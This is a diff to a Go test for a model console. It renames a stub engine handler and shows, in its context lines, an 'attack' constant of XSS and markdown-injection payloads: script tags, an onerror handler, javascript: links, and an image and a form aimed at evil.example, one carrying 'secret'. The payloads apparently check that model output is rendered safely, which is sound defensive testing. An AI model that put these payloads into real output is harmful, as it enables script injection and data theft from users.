@@ -31,7 +31,7 @@ func TestConsole(t *testing.T) {
 	if _, err := os.Stat(filepath.Join(folder, "node_modules", "playwright-core")); err != nil {
 		t.Skip("the console's tools are not installed: make deps")
 	}
-	engine := httptest.NewServer(http.HandlerFunc(scripted))
+	engine := httptest.NewServer(http.HandlerFunc(oneThingToSay))
 	defer engine.Close()
 	home := t.TempDir()
 	put(t, filepath.Join(home, "data", "hearth.yaml"), []byte(fmt.Sprintf("upstreams:\n  - {name: gpu, url: %q}\n", engine.URL+"/v1")))
@@ -86,8 +86,8 @@ const attack = "<script>window.hit=1</script>\n\n<img src=x onerror=\"window.hit
 	"[x](javascript:window.hit=1)\n\n![x](https://evil.example/?q=secret)\n\n<style>*{display:none}</style>\n\n<form action=https://evil.example><input></form>\n\n" +
 	"$\\href{javascript:window.hit=1}{x}$\n\n```html\n<script>window.hit=1</script>\n```\n"
 
-// scripted is an engine whose models each have one thing to say.
-func scripted(w http.ResponseWriter, r *http.Request) {
+// oneThingToSay is an engine whose models each have one thing to say.
+func oneThingToSay(w http.ResponseWriter, r *http.Request) {
 	if r.URL.Path == "/v1/models" {
 		_, _ = fmt.Fprint(w, `{"object":"list","data":[{"id":"echo"},{"id":"thinker"},{"id":"slow"},{"id":"hostile"}]}`)
 		return
